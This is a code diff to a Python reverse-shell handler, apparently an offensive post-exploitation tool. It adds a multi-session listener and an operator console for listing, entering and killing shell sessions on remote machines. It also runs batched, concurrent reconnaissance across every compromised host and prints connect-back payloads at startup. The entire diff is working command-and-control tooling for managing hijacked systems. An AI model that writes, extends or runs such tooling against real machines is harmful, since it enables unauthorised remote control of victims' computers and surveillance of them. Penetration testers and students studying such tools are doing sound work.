@@ -1,6 +1,8 @@
 """Main reverse shell handler orchestration"""
 
-from .shell.listener import Listener
+from concurrent.futures import ThreadPoolExecutor
+from datetime import datetime
+from .shell.listener import Listener, MultiListener
 from .shell.communicator import Communicator
 from .shell.upgrader import ShellUpgrader
 from .recon.system_info import SystemInfo
@@ -11,9 +13,10 @@ from .payloads.payload_generator import PayloadGenerator
 class ReverseShellHandler:
     """Main reverse shell handler"""
     
-    def __init__(self, lhost='0.0.0.0', lport=4444):
+    def __init__(self, lhost='0.0.0.0', lport=4444, framed=False):
         self.lhost = lhost
         self.lport = lport
+        self.framed = framed
         self.listener = None
         self.communicator = None
     
@@ -32,7 +35,7 @@ class ReverseShellHandler:
         client_socket, client_address = self.listener.get_connection()
         
         # Initialize components
-        self.communicator = Communicator(client_socket)
+        self.communicator = Communicator(client_socket, framed=self.framed)
         upgrader = ShellUpgrader(self.communicator)
         system_info = SystemInfo(self.communicator)
         situational_awareness = SituationalAwareness(self.communicator)
@@ -69,4 +72,152 @@ class ReverseShellHandler:
                 upgrader,
                 situational_awareness
             )
-            shell_interface.start()
\ No newline at end of file
+            shell_interface.start()
+
+
+class MultiSessionHandler:
+    """
+    Reverse shell handler for many concurrent sessions.
+    
+    Callbacks are accepted in the background while the operator works at
+    the console or inside one session (!bg returns to the console).
+    """
+    
+    def __init__(self, lhost='0.0.0.0', lport=4444, framed=False):
+        self.lhost = lhost
+        self.lport = lport
+        self.framed = framed
+        self.listener = None
+    
+    def _attach(self, session):
+        session.communicator = Communicator(session, framed=self.framed)
+    
+    def run(self):
+        """Main execution flow"""
+        payload_gen = PayloadGenerator(self.lhost, self.lport)
+        payload_gen.print_payloads()
+        
+        self.listener = MultiListener(self.lhost, self.lport, on_session=self._attach)
+        if not self.listener.start():
+            return
+        
+        print("[*] Waiting for connections. Type 'help' for commands.")
+        try:
+            self._console()
+        finally:
+            self.listener.close()
+            print("\n[*] All sessions closed")
+    
+    def _console(self):
+        """Operator console"""
+        while True:
+            try:
+                line = input("handler> ").strip()
+            except (KeyboardInterrupt, EOFError):
+                print()
+                return
+            
+            command, _, argument = line.partition(' ')
+            argument = argument.strip()
+            
+            if not command:
+                continue
+            elif command == 'exit':
+                return
+            elif command == 'help':
+                self._show_help()
+            elif command == 'sessions':
+                self.list_sessions()
+            elif command == 'interact':
+                self.interact(argument)
+            elif command == 'recon':
+                self.recon(argument or 'all')
+            elif command == 'output':
+                self.show_output(argument)
+            elif command == 'kill':
+                session = self._session(argument)
+                if session:
+                    session.close()
+            else:
+                print(f"[-] Unknown command: {command} (try 'help')")
+    
+    def _show_help(self):
+        print("\nCommands:")
+        print("  sessions          - List sessions")
+        print("  interact <id>     - Interact with a session (!bg to return)")
+        print("  recon [id|all]    - Situational awareness on one or all sessions, concurrently")
+        print("  output <id>       - Show a session's buffered output")
+        print("  kill <id>         - Close a session")
+        print("  exit              - Close all sessions and quit\n")
+    
+    def _session(self, argument):
+        try:
+            session = self.listener.get(int(argument))
+        except ValueError:
+            session = None
+        if session is None or not session.alive:
+            print(f"[-] No open session {argument!r}")
+            return None
+        return session
+    
+    def list_sessions(self):
+        sessions = self.listener.all_sessions()
+        if not sessions:
+            print("[*] No sessions yet")
+            return
+        
+        print(f"\n{'ID':<5}{'Remote':<24}{'Opened':<10}{'Last seen':<11}{'Output':>10}  Status")
+        for s in sessions:
+            print(f"{s.id:<5}{str(s):<24}"
+                  f"{datetime.fromtimestamp(s.opened).strftime('%H:%M:%S'):<10}"
+                  f"{datetime.fromtimestamp(s.last_seen).strftime('%H:%M:%S'):<11}"
+                  f"{s.output.total:>10}  {'open' if s.alive else 'closed'}")
+        print()
+    
+    def interact(self, argument):
+        session = self._session(argument)
+        if not session:
+            return
+        
+        communicator = session.communicator
+        shell_interface = ShellInterface(
+            communicator,
+            ShellUpgrader(communicator),
+            SituationalAwareness(communicator),
+            background=True,
+            prompt=f"shell[{session.id}]> "
+        )
+        if not shell_interface.start():
+            session.close()
+    
+    def recon(self, argument):
+        """Batched situational awareness across sessions, all running at once"""
+        if argument == 'all':
+            sessions = self.listener.alive_sessions()
+        else:
+            sessions = [s for s in [self._session(argument)] if s]
+        if not sessions:
+            print("[-] No open sessions")
+            return
+        
+        print(f"[*] Running recon on {len(sessions)} session(s)...")
+        with ThreadPoolExecutor(max_workers=len(sessions)) as pool:
+            results = list(pool.map(
+                lambda s: SituationalAwareness(s.communicator).collect(), sessions
+            ))
+        
+        for session, result in zip(sessions, results):
+            print("\n" + "=" * 60)
+            print(f"SESSION {session.id} ({session})")
+            print("=" * 60)
+            SituationalAwareness(session.communicator).print_results(result)
+    
+    def show_output(self, argument):
+        try:
+            session = self.listener.get(int(argument))
+        except ValueError:
+            session = None
+        if session is None:
+            print(f"[-] No session {argument!r}")
+            return
+        print(session.output.read().decode(errors='ignore'))